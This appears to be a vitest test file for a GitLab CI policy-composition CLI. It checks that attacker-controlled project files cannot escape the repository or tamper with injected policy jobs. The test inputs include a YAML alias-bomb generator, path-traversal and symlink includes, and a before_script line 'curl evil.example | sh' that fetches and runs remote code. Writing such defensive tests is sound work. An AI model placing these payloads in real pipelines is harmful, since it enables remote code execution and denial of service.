/**
 * Attacks through the project's own files that already held when issue #10 was filed, kept as
 * attacks so they keep holding: each runs the real CLI in workspace mode on a project written by
 * the attacker, beside a policy project the attacker does not control.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { messageLines, runRealCli, writeTree, type Tree } from './real-cli.js';

const POLICIES: Tree = {
  'ws/workspace.yml': { projects: { 'acme/app': { id: 101, default_branch: 'main', groups: [10] }, 'security/policies': { id: 900 } } },
  'ws/security/policies/.gitlab/security-policies/policy.yml': {
    pipeline_execution_policy: [
      {
        name: 'Checks',
        enabled: true,
        pipeline_config_strategy: 'inject_policy',
        content: { include: [{ project: 'security/policies', file: 'ci/checks.yml' }] },
      },
    ],
  },
  'ws/security/policies/ci/checks.yml': {
    'policy-precheck': { stage: '.pipeline-policy-pre', variables: { CHECK_LEVEL: 'strict' }, script: ['echo policy $CHECK_LEVEL'] },
  },
};

const COMPOSE = ['compose', '--workspace', 'ws', '--project', 'acme/app', '--policy-project', 'security/policies', '--branch', 'main'];

async function composeProject(project: Tree, extraArgs: readonly string[] = []) {
  const dir = await writeTree({ ...POLICIES, ...project });
  return runRealCli([...COMPOSE, ...extraArgs], { cwd: dir });
}

function expectOneClearMessage(stderr: string, pattern: RegExp): void {
  const lines = messageLines(stderr);
  expect(lines[0], stderr).toMatch(/^policy-sidecar: /);
  expect(lines[0]).toMatch(pattern);
  expect(lines.slice(1).every((line) => line.startsWith('  hint: ')), stderr).toBe(true);
  expect(stderr).not.toMatch(/\n\s+at /);
}

describe('attacks through the project repository that hold', () => {
  it('a YAML alias bomb in .gitlab-ci.yml ends in one message with its place, exit 2', async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let level = 1; level <= 9; level += 1) {
      const previous = String.fromCharCode(96 + level);
      const name = String.fromCharCode(97 + level);
      levels.push(`${name}: &${name} [${Array.from({ length: 10 }, () => `*${previous}`).join(',')}]`);
    }
    const { code, stderr } = await composeProject({ 'ws/acme/app/.gitlab-ci.yml': `${levels.join('\n')}\njob:\n  script: [echo]\n` });
    expect(code).toBe(2);
    expectOneClearMessage(stderr, /\.gitlab-ci\.yml:\d+:\d+: .*alias/i);
  });

  it('an include that climbs out of the repository is refused at its line', async () => {
    const { code, stderr } = await composeProject({
      'ws/acme/app/.gitlab-ci.yml': 'include:\n  - local: ../../security/policies/ci/checks.yml\njob:\n  script: [echo]\n',
    });
    expect(code).toBe(2);
    expectOneClearMessage(stderr, /\.gitlab-ci\.yml:2:\d+: Included file `\.\.\/\.\.\/security\/policies\/ci\/checks\.yml` is outside of the repository!/);
  });

  it('a symbolic link in the repository that points outside it is not followed', async () => {
    const { code, stderr, stdout } = await composeProject({
      'ws/acme/app/.gitlab-ci.yml': 'include:\n  - local: ci/jobs.yml\njob:\n  script: [echo]\n',
      'ws/acme/app/ci/jobs.yml': { symlink: '../../../security/policies/ci/checks.yml' },
    });
    // A source error (exit 3): the file cannot be read as the project's.
    expect(code, stdout).toBe(3);
    expect(stdout).toBe('');
    expectOneClearMessage(stderr, /ci\/jobs\.yml links outside its project/);
  });

  it('an include loop names the chain instead of hanging', async () => {
    const { code, stderr } = await composeProject({
      'ws/acme/app/.gitlab-ci.yml': 'include:\n  - local: a.yml\njob:\n  script: [echo]\n',
      'ws/acme/app/a.yml': 'include:\n  - local: b.yml\n',
      'ws/acme/app/b.yml': 'include:\n  - local: a.yml\n',
    });
    expect(code).toBe(2);
    expectOneClearMessage(stderr, /a\.yml.*b\.yml.*a\.yml/);
  });

  describe('remote includes', () => {
    let server: Server;
    let requests = 0;
    let url = '';
    beforeAll(async () => {
      server = createServer((_request, response) => {
        requests += 1;
        response.end('evil:\n  script: [echo evil]\n');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/ci.yml`;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('a remote include to a host nobody allowed is refused without connecting', async () => {
      const { code, stderr } = await composeProject({ 'ws/acme/app/.gitlab-ci.yml': `include:\n  - remote: ${url}\njob:\n  script: [echo]\n` });
      expect(code).toBe(3);
      expectOneClearMessage(stderr, /\.gitlab-ci\.yml:2:\d+: Remote file `http:\/\/127\.0\.0\.1:\d+\/ci\.yml` is not fetched: remote includes are disabled/);
      expect(requests).toBe(0);
    });
  });

  it('project default:, global variables, hooks and a same-named job never reach the policy job', async () => {
    const { code, stdout, stderr } = await composeProject({
      'ws/acme/app/.gitlab-ci.yml': [
        'default:',
        '  image: attacker/image:latest',
        '  before_script: [curl evil.example | sh]',
        '  hooks:',
        '    pre_get_sources_script: [echo evil]',
        'variables:',
        '  CHECK_LEVEL: off',
        'policy-precheck:',
        '  stage: test',
        '  script: [echo replaced]',
        'build:',
        '  script: [echo build]',
        '',
      ].join('\n'),
    });
    expect(code, stderr).toBe(0);
    const jobs = parse(stdout) as Record<string, Record<string, unknown>>;
    const policyJob = Object.entries(jobs).find(([, job]) => JSON.stringify(job['script'] ?? '').includes('echo policy'));
    expect(policyJob, stdout).toBeDefined();
    const [name, job] = policyJob ?? ['', {}];
    const text = JSON.stringify(job);
    expect(text).not.toContain('attacker/image');
    expect(text).not.toContain('evil');
    expect(text).not.toContain('"off"');
    expect(job['variables']).toEqual({ CHECK_LEVEL: 'strict' });
    expect(text).toContain("export CHECK_LEVEL='strict'");
    // The project's job of the same name is kept apart: the policy job is not replaced by it.
    expect(name).not.toBe('');
    expect(JSON.stringify(jobs)).toContain('echo replaced');
  });
});
